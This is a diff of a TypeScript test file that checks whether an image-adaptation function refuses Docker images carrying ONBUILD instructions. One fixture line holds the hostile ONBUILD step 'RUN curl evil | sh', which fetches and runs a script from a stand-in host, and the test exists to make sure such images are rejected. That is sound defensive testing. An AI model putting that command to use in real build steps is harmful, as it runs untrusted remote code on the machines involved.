@@ -10,12 +10,13 @@ const inspected = (config: object) =>
   assert.fail();
 
 describe('an image made ready by a build on the node', () => {
+  const carried = { holds: () => Promise.resolve(false), made: () => undefined };
   const supervisor = { bytes: Buffer.from('x'), sha256: 'cd'.repeat(32) };
 
   it('is refused where that build would run what the image says, and the node is asked for nothing', async () => {
     const remote = { transport: { at: 'node' }, inspect: () => assert.fail(), build: () => assert.fail() } as unknown as RemoteDocker;
     await assert.rejects(
-      adapt(remote, inspected({ OnBuild: ['RUN curl evil | sh'] }), supervisor, [1, 6, 2], defaultUids),
+      adapt(remote, inspected({ OnBuild: ['RUN curl evil | sh'] }), supervisor, [1, 6, 2], defaultUids, carried),
       (error) => error instanceof KatafleetError && error.code === 'image.unsuitable' && /x:1 has ONBUILD/.test(error.message),
     );
   });
@@ -30,7 +31,7 @@ describe('an image made ready by a build on the node', () => {
     } as unknown as RemoteDocker;
     for (const OnBuild of [null, []]) {
       answers.splice(0, answers.length, [], [{ id: 'made' }]);
-      assert.equal((await adapt(remote, inspected({ OnBuild }), supervisor, [1, 6, 2], defaultUids)).id, 'made');
+      assert.equal((await adapt(remote, inspected({ OnBuild }), supervisor, [1, 6, 2], defaultUids, carried)).id, 'made');
     }
     assert.equal(built.length, 2);
   });
